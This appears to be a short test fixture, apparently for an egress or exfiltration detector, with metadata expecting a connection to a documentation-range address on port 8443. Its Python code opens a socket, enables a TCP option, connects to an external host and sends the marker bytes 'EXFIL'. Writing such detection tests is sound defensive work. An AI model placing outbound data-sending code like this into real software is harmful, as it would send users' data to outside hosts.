#: {"class": "egress", "loader": "script", "expect": [["connect", "203\\.0\\.113\\.7:8443"]], "effect": {"sink": ["tfo", "EXFIL"]}}
import socket
s = socket.socket(); s.setsockopt(6, 30, 1); s.connect((EXT, 8443)); s.sendall(b"EXFIL"); s.close()
